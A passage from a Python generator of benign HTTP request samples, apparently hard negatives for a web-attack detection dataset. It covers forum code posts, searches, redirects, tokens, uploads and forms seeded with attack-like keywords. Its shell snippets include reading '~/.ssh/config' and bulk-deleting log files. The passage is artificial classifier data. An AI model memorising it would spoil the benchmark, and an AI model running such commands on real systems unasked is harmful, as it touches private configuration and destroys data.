    "find . -name '*.log' -mtime +7 | xargs rm -f",
    "ps aux | grep nginx; sudo systemctl restart nginx",
    "curl -s https://api.example.com/v1/status | jq '.services[] | select(.ok == false)'",
    "for f in *.png; do convert \"$f\" -resize 50% \"small/$f\"; done",
    "cat ~/.ssh/config | grep Host",
    "export PATH=$HOME/.cargo/bin:$PATH; cargo build --release",
    "tar -czf backup-$(date +%F).tar.gz ./data",
    "git log --oneline | head -n 20 && git status",
    "ls -la /var/log/ | sort -k5 -n",
    "docker run --rm -v $(pwd):/app -w /app node:20 npm test",
]
PY_SNIPPETS = [
    "cursor.execute(\"SELECT * FROM users WHERE email = %s\", (email,))",
    "import os\npath = os.path.join(base, '..', 'data', 'input.csv')",
    "with open('config.yaml') as f:\n    cfg = yaml.safe_load(f)",
    "subprocess.run(['ls', '-l'], check=True)",
    "return render_template('index.html', user=user)",
    "if a < b and b > c or not d:\n    print('ok')",
]
TEMPLATE_SNIPPETS = [
    "<ul>\n{% for item in items %}\n  <li>{{ item.name }} - {{ item.price|round(2) }}</li>\n{% endfor %}\n</ul>",
    "Hello {{ user.first_name }}, your order {{ order.number }} has shipped.",
    "<p th:text=\"${user.name}\">placeholder</p>",
    "{{#each posts}}<h2>{{title}}</h2>{{/each}}",
    "<%= link_to 'Edit', edit_post_path(@post) %>",
]
LANG_SNIPPETS = [("sql", SQL_SNIPPETS), ("js", JS_SNIPPETS), ("bash", SHELL_SNIPPETS), ("python", PY_SNIPPETS), ("jinja", TEMPLATE_SNIPPETS), ("html", JS_SNIPPETS[6:9] + TEMPLATE_SNIPPETS[:1])]
INTROS = ["Hi all, I'm stuck with this query and can't figure out why it's slow:", "Why does this return duplicates?",
          "Here's what I tried so far:", "Quick question about the following snippet.", "This works locally but fails in CI:",
          "Is there a cleaner way to write this?", "Answering my own question for future readers -- this is what fixed it:",
          "Can someone review this before I merge it?", "Following up on yesterday's thread, the code now looks like this:"]
OUTROS = ["Thanks in advance!", "Any ideas? I'm on Postgres 16.", "Edit: fixed a typo.", "Cheers, and sorry if this is a dumb question.",
          "Running on Node 20 / Chrome 124.", "I'd appreciate any pointers.", "(Using Ubuntu 22.04 & bash 5.1)", ""]


def gen_benign_forum():
    out = []
    for i in range(230):
        lang, snippets = LANG_SNIPPETS[i % len(LANG_SNIPPETS)]
        code = R.choice(snippets)
        md = f"{R.choice(INTROS)}\n\n```{lang}\n{code}\n```\n\n{R.choice(OUTROS)}"
        if R.random() < 0.3:
            code2 = R.choice(R.choice(LANG_SNIPPETS)[1])
            md += f"\n\nAlso tried `{code2.splitlines()[0][:60]}` inline, same result."
        title = R.choice(["Slow query with LEFT JOIN", "UNION vs UNION ALL?", "How to drop a column safely", "Event listener fires twice",
                          "Bash: && vs ;", "Template not rendering variables", "fetch() returns HTML instead of JSON", "Path join with ..",
                          "Select the latest row per group", "Escaping quotes in shell", "Jinja loop question", "alert() not showing on iOS"])
        kind = i % 4
        if kind == 0:
            body = json.dumps({"title": title, "body": md, "tags": [lang, "help"], "category_id": R.randint(1, 30)}, ensure_ascii=False)
            d = b_body("POST", "/api/forum/topics", body, "application/json")
        elif kind == 1:
            body = json.dumps({"post": {"raw": md, "topic_id": R.randint(1000, 99999), "reply_to_post_number": R.choice([None, 1, 2, 5])}}, ensure_ascii=False)
            d = b_body("POST", "/posts.json", body, "application/json")
        elif kind == 2:
            body = json.dumps({"content": md, "format": "markdown", "revision": R.randint(1, 40)}, ensure_ascii=False)
            d = b_body("PUT", f"/api/wiki/pages/{R.choice(['database-tips', 'frontend-faq', 'deploy-notes', 'onboarding'])}", body, "application/json")
        else:
            body = f"raw={bq(md)}&topic_id={R.randint(1000, 99999)}&nested_post=true"
            d = b_body("POST", "/posts", body, "application/x-www-form-urlencoded; charset=UTF-8")
        out.append(benign_record("forum_code", d, f"developer forum post with a {lang} code fence"))
    return out


def gen_benign_search():
    out = []
    paths = ["/search", "/s", "/catalog/search", "/api/search", "/help/search", "/docs/search", "/forum/search"]
    for i, s in enumerate(SEARCHES):
        for k in range(3):
            p = R.choice(paths)
            if k == 0:
                t = f"{p}?q={bq(s)}"
            elif k == 1:
                t = f"{p}?q={enc_url(s)}&page={R.randint(1, 5)}&sort={R.choice(['relevance', 'price_asc', 'newest'])}"
            else:
                t = f"{p}?query={enc_min(s)}&lang=en"
            host = random_host()
            ref = f"https://{host}{p}?q={bq(R.choice(SEARCHES))}" if R.random() < 0.4 else None
            out.append(benign_record("search", b_get(t, referer=ref), "site search query"))
    # Search engine referers carrying the query
    for s in R.sample(SEARCHES, 40):
        out.append(benign_record("search", b_get(R.choice(["/", "/products/union-jack-cushion", "/blog/sql-basics", "/p/8812"]),
                                                 referer=f"https://www.google.com/search?q={bq(s)}&sca_esv=5a1b&source=hp"), "landing from a search engine with the query in Referer"))
    return out


def gen_benign_redirect():
    out = []
    for i in range(140):
        u = R.choice(REDIRECT_URLS)
        param = R.choice(["redirect", "next", "return_to", "returnUrl", "continue", "url", "callback", "redirect_uri", "dest", "target"])
        path = R.choice(["/login", "/logout", "/sso/start", "/auth/callback", "/r", "/out", "/oauth/authorize", "/signup"])
        extra = ""
        if param == "redirect_uri":
            extra = f"&client_id={rand_token(20)}&response_type=code&scope=openid%20profile%20email&state={rand_token(16)}&code_challenge={b64url(bytes(R.randrange(256) for _ in range(32)))}&code_challenge_method=S256"
        v = bq(u) if R.random() < 0.7 else enc_min(u)
        out.append(benign_record("redirect", b_get(f"{path}?{param}={v}{extra}"), f"URL as {param} parameter"))
    # form posts with a return URL
    for i in range(30):
        u = R.choice(REDIRECT_URLS)
        body = f"username={bq(R.choice(NAMES).split(' ')[0].lower())}&password={bq('S3cr3t!' + rand_token(5))}&next={bq(u)}&remember=1"
        out.append(benign_record("redirect", b_body("POST", "/login", body, "application/x-www-form-urlencoded", accept=ACCEPT_HTML), "login form with next URL"))
    return out


def gen_benign_tokens():
    out = []
    for i in range(140):
        kind = i % 7
        if kind == 0:
            d = b_get(f"/verify-email?token={jwt()}")
            note = "JWT in query"
        elif kind == 1:
            host = random_host()
            h = [["Host", host], ["User-Agent", R.choice(TOOL_UAS[:16])], ["Accept", "application/json"], ["Authorization", f"Bearer {jwt()}"]]
            d = finish("GET", f"/api/v1/orders/{uuid4()}?expand=items,customer", h)
            note = "API call with bearer JWT and UUID path"
        elif kind == 2:
            blob = base64.b64encode(bytes(R.randrange(256) for _ in range(R.randint(16, 300)))).decode()
            d = b_body("POST", "/api/uploads/chunk", json.dumps({"upload_id": uuid4(), "index": R.randint(0, 99), "data": blob, "sha256": rand_hex(64)}), "application/json")
            note = "base64 binary chunk in JSON"
        elif kind == 3:
            sig = rand_hex(64)
            d = b_get(f"/files/{uuid4()}/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA{rand_token(16, string.ascii_uppercase + string.digits)}%2F20240521%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20240521T101500Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature={sig}")
            note = "presigned S3-style URL"
        elif kind == 4:
            state = base64.b64encode(json.dumps({"returnTo": R.choice(REDIRECT_URLS), "nonce": rand_token(12)}).encode()).decode()
            d = b_get(f"/auth/callback?code={rand_token(40)}&state={quote(state, safe='')}")
            note = "OAuth callback with base64 JSON state"
        elif kind == 5:
            d = b_get(f"/unsubscribe?u={uuid4()}&sig={b64url(bytes(R.randrange(256) for _ in range(32)))}&list=weekly")
            note = "signed unsubscribe link"
        else:
            cookie = f"session={base64.b64encode(json.dumps({'uid': R.randint(1, 99999), 'roles': ['user'], 'exp': 1717000000}).encode()).decode()}.{rand_token(27)}"
            host = random_host()
            h = browser_headers(host, cookies=[cookie] + analytics_cookies())
            d = finish("GET", "/dashboard", h)
            note = "signed base64 JSON session cookie"
        out.append(benign_record("tokens", d, note))
    return out


def gen_benign_i18n():
    out = []
    texts = [p for p in PROSE if any(ord(c) > 0x2000 for c in p)] + [
        "🎉🎂 Happy birthday!! 🥳", "Ship to: 東京都渋谷区神南1-2-3", "Адрес: г. Москва, ул. Тверская, д. 7, кв. 12",
        "عنوان الشحن: شارع التحرير، القاهرة", "配送先：北京市朝阳区建国路88号", "Ελληνικά: Καλημέρα κόσμε", "עברית: שלום עולם",
        "ไทย: สวัสดีครับ", "Tiếng Việt: Xin chào thế giới", "emoji only 👍👍🔥🔥💯", "naïve café résumé façade jalapeño",
        "Zürich → München ⇒ Wien", "½ cup ≈ 120 ml; 5 °C ≤ t ≤ 8 °C", "“Smart quotes” and ‘single ones’ — with dashes…",
        "Ａｂｃ fullwidth ｔｅｘｔ １２３", "Ⅻ ⅷ ① ② ③ ★☆", "𝒻𝒶𝓃𝒸𝓎 𝓉𝑒𝓍𝓉", "Dobrý den, jak se máte?", "Zażółć gęślą jaźń",
    ]
    for i in range(150):
        t = R.choice(texts)
        kind = i % 4
        if kind == 0:
            d = b_get(f"/search?q={bq(t)}")
        elif kind == 1:
            d = b_body("POST", "/api/messages", json.dumps({"to": uuid4(), "text": t, "sent_at": "2024-05-21T10:15:00+09:00"}, ensure_ascii=R.random() < 0.5), "application/json")
        elif kind == 2:
            d = b_body("POST", "/checkout/address", f"name={bq(R.choice(NAMES))}&address={bq(t)}&country=JP", "application/x-www-form-urlencoded", accept=ACCEPT_HTML)
        else:
            slug = quote(t[:20].replace(" ", "-"), safe="")
            d = b_get(f"/wiki/{slug}")
        out.append(benign_record("i18n", d, "non-Latin scripts / emoji"))
    return out


def gen_benign_longtext():
    out = []
    for i in range(50):
        paras = []
        while sum(len(p) for p in paras) < R.randint(3000, 9000):
            paras.append(" ".join(R.sample(PROSE, R.randint(3, 6))))
        text = "\n\n".join(paras)
        if i % 2:
            body = json.dumps({"title": "Draft: notes from the meeting", "content": text, "status": "draft", "author_id": R.randint(1, 500)}, ensure_ascii=False)
            d = b_body("POST", "/api/blog/posts", body, "application/json")
        else:
            d = b_body("POST", "/editor/save", f"doc_id={uuid4()}&content={bq(text)}", "application/x-www-form-urlencoded")
        out.append(benign_record("longtext", d, f"long text body ({len(text)} chars)"))
    return out


def gen_benign_rest():
    out = []
    for i in range(220):
        kind = i % 11
        oid = R.randint(1, 99999)
        if kind == 0:
            body = {"items": [{"sku": f"TS-{R.randint(100, 999)}", "qty": R.randint(1, 5), "price": round(R.uniform(5, 200), 2), "options": {"size": R.choice(["S", "M", "L"]), "gift": R.random() < 0.3}} for _ in range(R.randint(1, 4))],
                    "shipping": {"method": R.choice(["standard", "express"]), "address": {"line1": R.choice(STREETS), "city": R.choice(CITIES), "postcode": R.choice(["D02 X285", "10115", "75001", "SW1A 1AA"])}},
                    "coupon": R.choice([None, "SUMMER24", "WELCOME10"]), "notes": R.choice(["", "Leave at the back door; dog is friendly", "Ring twice & wait"])}
            d = b_body("POST", "/api/v1/orders", json.dumps(body, ensure_ascii=False), "application/json")
        elif kind == 1:
            d = b_body("PATCH", f"/api/v1/orders/{oid}", json.dumps({"status": R.choice(["cancelled", "shipped"]), "reason": R.choice(["customer request", "duplicate order", "select other carrier"])}), "application/json")
        elif kind == 2:
            h = [["Host", "api.example.com"], ["User-Agent", R.choice(TOOL_UAS[:16])], ["Accept", "application/json"], ["Authorization", f"Bearer {jwt()}"]]
            d = finish("DELETE", f"/api/v1/carts/{uuid4()}/items/{R.randint(1, 50)}", h)
        elif kind == 3:
            d = b_get(f"/api/v1/products?category={R.choice(['shoes', 'home & garden', 'kids'])}&min_price=10&max_price=100&sort=-created_at&fields=id,name,price&page[size]=24&page[number]={R.randint(1, 9)}".replace(" ", "%20").replace("&garden", "%26garden"), accept="application/json")
        elif kind == 4:
            body = {"event": R.choice(["page_view", "add_to_cart", "purchase"]), "ts": 1716000000000 + R.randint(0, 10**8), "props": {"path": R.choice(["/", "/cart", "/p/1842"]), "referrer": R.choice(REDIRECT_URLS), "screen": {"w": 1920, "h": 1080}, "experiments": ["new-checkout", "dark-mode"]}, "anonymous_id": uuid4()}
            d = b_body("POST", "/v1/track", json.dumps(body), "application/json")
        elif kind == 5:
            body = {"type": "invoice.paid", "id": f"evt_{rand_token(24)}", "created": 1716000000 + R.randint(0, 99999), "data": {"object": {"id": f"in_{rand_token(24)}", "amount_paid": R.randint(100, 99999), "currency": "eur", "customer_email": "siobhan.obrien@example.ie", "lines": {"data": [{"description": "Pro plan (monthly) & add-ons", "amount": 4900}]}}}, "livemode": False}
            h = [["Host", "api.example.com"], ["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Accept", "*/*; q=0.5, application/xml"], ["Stripe-Signature", f"t=1716000000,v1={rand_hex(64)}"]]
            d = finish("POST", "/webhooks/stripe", h, json.dumps(body), "application/json; charset=utf-8")
        elif kind == 6:
            body = {"ref": "refs/heads/main", "before": rand_hex(40), "after": rand_hex(40), "commits": [{"id": rand_hex(40), "message": R.choice(["Fix SQL: use UNION ALL instead of UNION in report query", "Drop unused table from schema", "Escape <script> in user bio (XSS fix)", "Bump deps; remove ../ from import paths", "Add sleep() between retries && log errors", "Merge pull request #42 from o'brien/select-fix"]), "author": {"name": R.choice(NAMES), "email": "dev@example.com"}, "modified": ["src/db/queries.sql", "web/templates/index.html"]}], "repository": {"full_name": "example/shop", "private": True}}
            h = [["Host", "ci.example.com"], ["User-Agent", "GitHub-Hookshot/5c7a1e2"], ["Accept", "*/*"], ["X-GitHub-Event", "push"], ["X-Hub-Signature-256", f"sha256={rand_hex(64)}"]]
            d = finish("POST", "/hooks/github", h, json.dumps(body, ensure_ascii=False), "application/json")
        elif kind == 7:
            d = b_body("PUT", f"/api/v1/users/{oid}/preferences", json.dumps({"notifications": {"email": True, "sms": False, "digest": "weekly"}, "theme": "dark", "language": R.choice(["en-IE", "ga-IE", "fr-FR"]), "timezone": "Europe/Dublin", "shortcuts": ["ctrl+k", "g i", "?"]}), "application/json")
        elif kind == 8:
            d = b_get(f"/api/v2/reports/sales?from=2024-01-01&to=2024-03-31&group_by=region,channel&metrics=revenue,orders&filter=country%3D%3DIE%3Bchannel%21%3Dwholesale", accept="application/json")
        elif kind == 9:
            ops = [{"op": "replace", "path": "/title", "value": R.choice(["Union Street Café — menu", "Select & Save offers", "Drop-in sessions"])}, {"op": "add", "path": "/tags/-", "value": "featured"}]
            d = b_body("PATCH", f"/api/pages/{oid}", json.dumps(ops, ensure_ascii=False), "application/json-patch+json")
        else:
            body = {"jsonrpc": "2.0", "method": R.choice(["inventory.adjust", "user.lookup"]), "params": {"sku": f"MUG-{R.randint(1, 99)}", "delta": -1, "where": {"warehouse": "DUB-1"}}, "id": R.randint(1, 1000)}
            d = b_body("POST", "/rpc", json.dumps(body), "application/json")
        out.append(benign_record("rest_api", d, "REST/JSON API call"))
    return out


GRAPHQL_QUERIES = [
    ("query GetUser($id: ID!) { user(id: $id) { id name email orders(first: 5) { edges { node { id total } } } } }", {"id": "VXNlcjo0Mg=="}),
    ("query Search($q: String!) { search(query: $q) { __typename ... on Product { id name price } ... on Article { id title } } }", {"q": "union jack"}),
    ("mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { cart { id itemCount } errors { field message } } }", {"input": {"productId": "UHJvZHVjdDox", "quantity": 2}}),
    ("mutation UpdateProfile($bio: String) { updateProfile(bio: $bio) { ok } }", {"bio": "Backend dev. I select, I join, I sometimes drop tables (in staging)."}),
    ("query { viewer { login repositories(first: 10, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }", {}),
    ("fragment PostFields on Post { id title excerpt }\nquery Feed($after: String) { feed(first: 20, after: $after) { ...PostFields pageInfo { hasNextPage endCursor } } }", {"after": "Y3Vyc29yOjIw"}),
    ("query IntrospectionQuery { __schema { queryType { name } types { name kind } } }", {}),
    ("subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }", {"room": "general"}),
]


def gen_benign_graphql():
    out = []
    for i in range(80):
        q, v = GRAPHQL_QUERIES[i % len(GRAPHQL_QUERIES)]
        op = q.split("(")[0].split("{")[0].split()
        name = op[1] if len(op) > 1 else None
        if i % 4 == 3:
            t = f"/graphql?query={quote(q, safe='')}&variables={quote(json.dumps(v), safe='')}"
            d = b_get(t, accept="application/json")
        else:
            d = b_body("POST", R.choice(["/graphql", "/api/graphql", "/gql"]), json.dumps({"operationName": name, "query": q, "variables": v}), "application/json")
        out.append(benign_record("graphql", d, "GraphQL request"))
    return out


INAPP_UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E236 [FBAN/FBIOS;FBAV/460.0.0.38.108;FBBV/585118584;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/587021316]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 329.0.0.41.93 (iPhone14,7; iOS 17_4_1; en_US; en; scale=3.00; 1170x2532; 596367245)",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230805.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/462.0.0.41.111;]",
    "Mozilla/5.0 (Linux; Android 12; SM-A525F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/123.0.6312.118 Mobile Safari/537.36 Line/14.5.1/IAB",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.47(0x18002f2c) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
]
JSON_COOKIES = [
    'prefs={"theme":"dark","lang":"en"}', "consent=%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D",
    'ab_tests=checkout:B|search:A|banner:off', "last_search=union+jack+cushion", "viewed=[1842,1901,77]",
    "returnTo=https%3A%2F%2Fshop.example.com%2Fcart%3Fstep%3D2", "flash=Your+changes+have+been+saved%21",
]


def gen_benign_browser():
    out = []
    pages = ["/", "/products/union-jack-cushion", "/blog/2024/05/how-to-select-a-union-plan", "/category/home-garden?page=2", "/cart",
             "/account/orders", "/help/faq#returns", "/p/1842-o-brien-tweed-cap", "/collections/drop-earrings", "/about-us",
             "/news/script-writing-workshop", "/events?month=2024-06&city=Dublin", "/en-ie/", "/de/produkte/kaffeemaschine",
             "/u/siobhan.obrien", "/t/select-vs-union/9921", "/docs/v2.3.1/api/index.html", "/product;jsessionid=8F3A2B1C9D?id=12",
             "/cars;color=red;year=2012/list", "/archive/2023/12/31/", "/legal/terms-and-conditions.pdf", "/static/../images/banner.jpg"[0:0] + "/images/banner@2x.jpg"]
    for i in range(260):
        p = R.choice(pages)
        host = random_host()
        ref = R.choice([None, f"https://{host}/", f"https://{host}/search?q={bq(R.choice(SEARCHES))}", "https://www.google.com/", "https://t.co/aB3dE9fGh1", "https://www.facebook.com/", "android-app://com.google.android.gm/"])
        if i % 5 == 4:
            ck = session_cookies() + [R.choice(JSON_COOKIES)] + analytics_cookies()
            d = finish("GET", p, browser_headers(host, ua=R.choice(INAPP_UAS), referer=ref, cookies=ck))
            note = "in-app / legacy browser user agent, JSON-ish cookie"
        else:
            d = b_get(p, referer=ref)
            note = "browser page load with realistic headers and cookies"
        out.append(benign_record("browser", d, note))
    # XHR / fetch, CORS preflights, HEAD
    for i in range(60):
        host = random_host()
        kind = i % 3
        if kind == 0:
            h = [["Host", host], ["Origin", f"https://{random_host()}"], ["Access-Control-Request-Method", R.choice(["POST", "PUT", "DELETE"])],
                 ["Access-Control-Request-Headers", "authorization,content-type,x-requested-with,x-csrf-token"], ["User-Agent", R.choice(BROWSER_UAS)], ["Accept", "*/*"]]
            d = finish("OPTIONS", R.choice(["/api/v1/orders", "/graphql", "/api/upload"]), h)
            note = "CORS preflight"
        elif kind == 1:
            d = finish("HEAD", R.choice(["/", "/healthz", "/static/app.3f2a1b.js"]), [["Host", host], ["User-Agent", R.choice(TOOL_UAS)], ["Accept", "*/*"]])
            note = "HEAD request"
        else:
            h = browser_headers(host, accept="application/json, text/plain, */*", referer=f"https://{host}/account", cookies=session_cookies())
            h.append(["X-Requested-With", "XMLHttpRequest"])
            h.append(["X-CSRF-Token", rand_token(40)])
            d = finish("GET", f"/api/notifications?since={1716000000 + i}&unread=true", h)
            note = "XHR with CSRF header"
        out.append(benign_record("browser", d, note))
    return out


def gen_benign_upload():
    out = []
    files = [("holiday photo (1).jpg", "image/jpeg"), ("Q3 report - final v2.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
             ("résumé.pdf", "application/pdf"), ("O'Brien contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
             ("IMG_20240521_101500.HEIC", "image/heic"), ("screenshot 2024-05-21 at 10.15.00.png", "image/png"), ("data.csv", "text/csv"),
             ("notes & ideas.txt", "text/plain"), ("logo.svg", "image/svg+xml"), ("backup-2024-05-21.zip", "application/zip"),
             ("発注書.pdf", "application/pdf"), ("scan_0001.tiff", "image/tiff"), ("presentation.key", "application/octet-stream"),
             ("select_union_menu.pdf", "application/pdf"), ("..hidden-looking but fine.txt", "text/plain"), ("invoice #1042.pdf", "application/pdf")]
    for i in range(120):
        fname, ct = R.choice(files)
        if ct == "text/csv":
            content = "id,name,email,notes\n1,Siobhan O'Brien,s@example.ie,\"likes select & union products\"\n2,Marco D'Angelo,m@example.it,\"call after 5; <VIP>\"\n"
        elif ct == "image/svg+xml":
            content = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>'
        elif ct.startswith("text"):
            content = " ".join(R.sample(PROSE, 3)) + "\n"
        else:
            content = "".join(chr(R.randint(0x20, 0x7E)) for _ in range(R.randint(100, 600)))
        parts = [("title", R.choice(["Holiday pics", "Q3 numbers", "My CV", "Signed contract", "Logo v3"]), None, None), ("visibility", "private", None, None), ("file", content, fname, ct)]
        body, mct = multipart(parts)
        d = b_body("POST", R.choice(["/upload", "/api/files", "/documents", "/profile/avatar"]), body, mct)
        out.append(benign_record("upload", d, f"multipart upload of {fname}"))
    return out


def gen_benign_static():
    out = []
    assets = ["/static/app.3f2a1b.js", "/static/js/main.3f2a1b9c.chunk.js", "/assets/index-B4x9Qe2.css", "/_next/static/chunks/pages/_app-8f2e1c.js",
              "/favicon.ico", "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/sitemap-products-1.xml.gz", "/ads.txt", "/manifest.json",
              "/apple-touch-icon.png", "/fonts/Inter-var.woff2", "/images/team/o%27brien.jpg", "/.well-known/openid-configuration",
              "/.well-known/apple-app-site-association", "/.well-known/acme-challenge/" + rand_token(43, string.ascii_letters + string.digits + "-_"),
              "/.well-known/change-password", "/.well-known/assetlinks.json", "/static/img/icons/arrow-left.svg", "/service-worker.js",
              "/wp-content/themes/shop/style.css?ver=6.5.3", "/static/css/app.min.css?v=20240521", "/media/uploads/2024/05/banner.webp",
              "/docs/env-setup.html", "/blog/git-config-tips", "/help/backup-and-restore", "/settings/config", "/api/v1/backups",
              "/static/vendor/jquery-3.7.1.min.js", "/js/select2.min.js", "/css/union.css", "/downloads/setup-2.4.1.exe", "/feed.xml", "/humans.txt",
              "/static/maps/app.js.map", "/img/sprites@2x.png", "/video/intro.mp4", "/static/admin/css/base.css"]
    for i in range(170):
        a = R.choice(assets)
        host = random_host()
        kind = i % 3
        if kind == 0:
            d = finish("GET", a, browser_headers(host, referer=f"https://{host}/", accept=R.choice(["*/*", "text/css,*/*;q=0.1", "image/avif,image/webp,*/*"]), cookies=session_cookies()))
        elif kind == 1:
            h = [["Host", host], ["User-Agent", R.choice(TOOL_UAS)], ["Accept", "*/*"], ["Accept-Encoding", "gzip"]]
            if R.random() < 0.3:
                h.append(["If-None-Match", f'W/"{rand_hex(16)}"'])
            d = finish("GET", a, h)
        else:
            h = browser_headers(host, accept="*/*")
            h.append(["If-Modified-Since", "Tue, 21 May 2024 10:15:00 GMT"])
            h.append(["Range", "bytes=0-1048575"]) if a.endswith(".mp4") else None
            d = finish("GET", a, h)
        out.append(benign_record("static", d, "static asset / well-known file"))
    return out


def gen_benign_tools():
    out = []
    endpoints = ["/healthz", "/readyz", "/status", "/api/v1/status", "/metrics", "/", "/ping", "/api/v1/items?limit=50", "/robots.txt",
                 "/sitemap.xml", "/api/health?full=1", "/version"]
    for ua in TOOL_UAS:
        for k in range(3):
            host = random_host()
            h = [["Host", host], ["User-Agent", ua], ["Accept", R.choice(["*/*", "application/json", "text/html,application/xhtml+xml"])]]
            if "Googlebot" in ua or "bingbot" in ua:
                h.append(["From", "googlebot(at)googlebot.com" if "Google" in ua else "bingbot(at)microsoft.com"])
            if k == 2 and any(x in ua for x in ("python", "curl", "Go-http", "okhttp", "axios", "Postman", "Java")):
                d = finish("POST", "/api/v1/events", h + [["Authorization", f"Bearer {jwt()}"]], json.dumps({"name": "deploy.finished", "sha": rand_hex(40), "ok": True, "duration_ms": R.randint(1000, 90000)}), "application/json")
            else:
                d = finish("GET", R.choice(endpoints), h)
            out.append(benign_record("tools", d, f"benign tool / bot: {ua.split('/')[0][:30]}"))
    return out


PASSWORDS = ['P@ss;w0rd|!<3', 'correct horse battery staple', 'Tr0ub4dor&3', 'a"b\\\'c', 'select*from1', '--hunter2--', '1=1OrMaybe2', "O'Brien1984!", '<Spring2024>']


REGEXES = [r'^[a-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}$', r'(\d{3})-(\d{4})', r'.*\.(jpg|png)$', '[<>]+']


def gen_benign_forms():
    out = []
    for i in range(120):
        kind = i % 6
        if kind == 0:
            body = f"email={bq(R.choice(['siobhan.obrien@example.ie', 'marco+shop@example.it', 'o.connor@example.co.uk']))}&password={bq(R.choice(PASSWORDS) + rand_token(2))}&remember_me=on"
            d = b_body("POST", "/login", body, "application/x-www-form-urlencoded", accept=ACCEPT_HTML)
            note = "login form with special-character passwords"
        elif kind == 1:
            body = f"card_name={bq(R.choice(NAMES))}&address={bq(R.choice(STREETS))}&city={bq(R.choice(CITIES))}&phone={bq(R.choice(['+1 (555) 010-0199', '+353 1 555 0142', '(01) 234-5678 ext. 9', '+81-3-5555-0123']))}&notes={bq(R.choice(['Leave with neighbour @ no. 14', 'Gate code: #1234*', 'Call first; dog > 40kg', '']))}"
            d = b_body("POST", "/checkout/shipping", body, "application/x-www-form-urlencoded", accept=ACCEPT_HTML)
            note = "checkout address form"
        elif kind == 2:
            body = f"expression={bq(R.choice(['2*(3+4)', 'a<b && b>c', '=SUM(A1:A3)', '(x|y)&~z', 'sqrt(16) / 2', '10 % 3', '1e-9 < eps', 'x => x * 2']))}&precision=4"
            d = b_body("POST", "/tools/calculator", body, "application/x-www-form-urlencoded")
            note = "calculator / formula input"
        elif kind == 3:
            d = b_get(f"/files/browse?path={bq(R.choice(['docs/guide/intro.md', 'src/main.rs', 'reports/2024/q3.pdf', 'photos/2023/summer/IMG_001.jpg', 'a/b/c']))}&view=list")
            note = "relative file path parameter (no traversal)"
        elif kind == 4:
            body = f"regex={bq(R.choice(REGEXES))}&test_string={bq('hello <world> 123-4567')}"
            d = b_body("POST", "/tools/regex", body, "application/x-www-form-urlencoded")
            note = "regex tester"
        else:
            body = f"subject={bq(R.choice(['Re: your order', 'FW: union meeting notes', 'Drop-off times', 'Select your seats']))}&to={bq('team@example.com; ops@example.com')}&body={bq(' '.join(R.sample(PROSE, 2)))}"
            d = b_body("POST", "/mail/compose", body, "application/x-www-form-urlencoded")
            note = "webmail compose"
        out.append(benign_record("forms", d, note))
    return out


def gen_benign_richtext():
    out = []
    snippets = [
        "<p>Hello <strong>world</strong>! Check out our <a href=\"https://www.example.org/sale\" target=\"_blank\" rel=\"noopener\">summer sale</a>.</p>",
        "<h2>Opening hours</h2><ul><li>Mon&ndash;Fri: 9&ndash;17</li><li>Sat: 10&ndash;14</li></ul>",
        "<p><img src=\"https://cdn.example.com/uploads/2024/05/shop-front.jpg\" alt=\"Our shop on Union St.\" width=\"600\"></p>",
        "<blockquote>Select the best, forget the rest.</blockquote><p>&mdash; our founder, Siobhan O&#39;Brien</p>",
        "<p>Use <code>SELECT * FROM products</code> only in development &amp; never in prod.</p>",
        "<table><tr><th>Size</th><th>Chest (cm)</th></tr><tr><td>S</td><td>&lt; 90</td></tr><tr><td>M</td><td>90&ndash;100</td></tr></table>",
        "<p style=\"text-align:center\"><em>Free delivery over &euro;50</em></p>",
        "<p>Line one<br>Line two<br/>Line three &amp; more</p>",
        "<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\" width=\"560\" height=\"315\" allowfullscreen></iframe>",
        "<p>Emoji test 😀 and <span class=\"highlight\">highlighted</span> text.</p>",
    ]
    for i in range(80):
        html = "".join(R.sample(snippets, R.randint(1, 3)))
        if i % 2:
